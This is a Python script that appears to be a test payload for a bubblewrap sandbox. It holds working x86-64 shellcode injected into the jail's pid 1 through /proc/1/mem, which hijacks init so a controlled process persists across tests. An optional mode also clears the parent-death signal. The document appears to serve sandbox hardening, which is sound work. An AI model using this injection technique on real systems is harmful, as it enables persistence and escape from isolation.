"""Take over the jail's init (pid 1, bubblewrap's reaper) through /proc/1/mem.

pid 1 runs as the same uid as the test, is dumpable, and sits in wait4(). We overwrite
the code at its return address with shellcode that execve()s a Python loop, then wake it
by orphaning a child that exits. If this works, a process we control outlives the test:
the zygote's kill(-1) never reaches pid 1, so it persists into later tests on this slot.
Prints PWNED only if pid 1 is running our program afterwards.

With ESCAPE set, the new init also clears its parent-death signal (the only thing tying
the jail's lifetime to the host-side bwrap: the jail runs in its own session, so killing
bwrap's process group does not reach it), and the test then kills the zygote so the
server tears the jail down. The init, and with it the whole jail, should die with it.
"""

import os
import struct
import sys
import time

MARKER = "cobalt-pid1-takeover-@TOKEN@"
ESCAPE = "@ESCAPE@" == "1"
PR_SET_PDEATHSIG = 1


def main():
    fields = open("/proc/1/syscall").read().split()
    pc = int(fields[-1], 16)
    loop = "import time\n"
    if ESCAPE:
        loop += f"import ctypes\nctypes.CDLL(None).prctl({PR_SET_PDEATHSIG}, 0, 0, 0, 0)\n"
    loop += "while True:\n    time.sleep(0.05)\n"
    strings = [
        sys.executable.encode() + b"\0",
        b"-c\0",
        loop.encode() + b"\0",
        MARKER.encode() + b"\0",
    ]
    code_len = 10 + 10 + 2 + 5 + 2 + 2
    data = b""
    addresses = []
    for text in strings:
        addresses.append(pc + code_len + len(data))
        data += text
    data += b"\0" * (-(code_len + len(data)) % 8)
    argv = pc + code_len + len(data)
    data += struct.pack("<5Q", *addresses, 0)
    code = (
        b"\x48\xbf" + struct.pack("<Q", addresses[0])  # movabs rdi, path
        + b"\x48\xbe" + struct.pack("<Q", argv)  # movabs rsi, argv
        + b"\x31\xd2"  # xor edx, edx (envp = NULL)
        + b"\xb8\x3b\x00\x00\x00"  # mov eax, 59 (execve)
        + b"\x0f\x05"  # syscall
        + b"\xeb\xfe"  # jmp . (if execve failed)
    )  # fmt: skip
    assert len(code) == code_len
    with open("/proc/1/mem", "r+b", buffering=0) as mem:
        mem.seek(pc)
        mem.write(code + data)
    # Wake pid 1 from wait4(): a grandchild orphaned to it exits.
    if os.fork() == 0:
        if os.fork() == 0:
            time.sleep(0.05)
            os._exit(0)
        os._exit(0)
    os.wait()
    for _ in range(50):
        time.sleep(0.02)
        with open("/proc/1/cmdline", "rb") as fh:
            if MARKER.encode() in fh.read():
                print("PWNED", flush=True)
                break
    else:
        return
    if ESCAPE:
        time.sleep(0.2)  # let the new init clear its parent-death signal
        os.kill(2, 9)


try:
    main()
except Exception as exc:
    print("takeover failed:", repr(exc), file=sys.stderr)
